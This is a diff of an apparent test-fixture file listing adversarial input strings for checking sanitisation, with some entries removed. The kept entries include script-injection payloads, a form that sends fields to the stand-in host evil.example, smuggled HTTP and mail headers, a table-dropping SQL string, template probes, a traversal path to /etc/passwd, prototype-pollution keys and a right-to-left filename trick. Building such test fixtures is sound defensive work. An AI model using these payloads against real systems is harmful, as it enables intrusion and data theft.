@@ -10,11 +10,8 @@ export const markup = {
   'an image with a handler': '<img src=x onerror=window.wasRun=1>',
   'a handler for an attribute with double quotes': '" autofocus onfocus="window.wasRun=1',
   'a handler for an attribute without quotes': 'x onmouseover=window.wasRun=1',
-  'a script address': 'javascript:window.wasRun=1',
   'a frame': '<iframe srcdoc="<script>parent.wasRun=1</script>">',
   'a form': '</form><form action=https://evil.example><input name=last_name>',
-  'a base address': '<base href=https://evil.example/>',
-  'a CDATA section': ']]><![CDATA[<script>window.wasRun=1</script>',
   'a mutating table': '<table><a href=x><svg><style><!--</style><img src=x onerror=window.wasRun=1>',
   entities: '&lt;b&gt; &amp;amp; &#60;script&#62; &nbsp &notanentity;',
   'full-width brackets': '＜script＞window.wasRun=1＜/script＞',
@@ -30,16 +27,12 @@ export const controls = {
   'a right-to-left override': 'photo\u202Egpj.exe',
   'direction isolates left open': '\u2066\u2067\u2068a',
   'zero width': 'a\u200Bb\u200Cc\u200Dd\u2060e\uFEFFf',
-  'private and unassigned': '\uE000\u{F0000}\uFDD0\uFFFE\uFFFF\u{10FFFF}',
 };
 
 const scripts = {
   'a name in Telugu': 'శ్రీనివాస్',
-  'a decomposed accent': 'Zoe\u0301',
   'many combining marks': `Z${'\u0300\u0316\u0489'.repeat(12)}`,
   'a family in one emoji': '👩‍👩‍👧‍👦',
-  'a flag, and half of one': '🇮🇳🇮',
-  'letters beyond the first plane': '𝒜𝓈𝒽𝒶 𐐨',
   'the halves in the wrong order': '\uDE00\uD83D',
 };
 
@@ -47,11 +40,8 @@ export const protocols = {
   'a header smuggled in': 'a\r\nSet-Cookie: owned=1\r\n\r\n<script>window.wasRun=1</script>',
   'a mail header': 'asha@example.com\r\nBcc: all@example.com',
   'an escape cut short': '%E0%A4%A',
-  'an escape of no character': '%ED%A0%80%FF',
-  'escapes of escapes': '%253Cscript%253E',
   'separators of a form': 'a&oid=00D000000000001AAA&b=c;d+e#f?g',
   'SQL that drops a table': "'); DROP TABLE leads; --",
-  'SQL wildcards': '%_*?[a-z]',
   'a template': '${7*7} {{7*7}} #{7*7} <%= 7*7 %>',
   'a replacement pattern': "$& $1 $` $' $$",
   'a path out of the folder': '../../../../etc/passwd',
@@ -61,7 +51,6 @@ export const protocols = {
 const words = {
   'a prototype': '__proto__',
   'a constructor': 'constructor',
-  'a method of forms': 'submit',
   'a formula': '=1+1',
 };
 
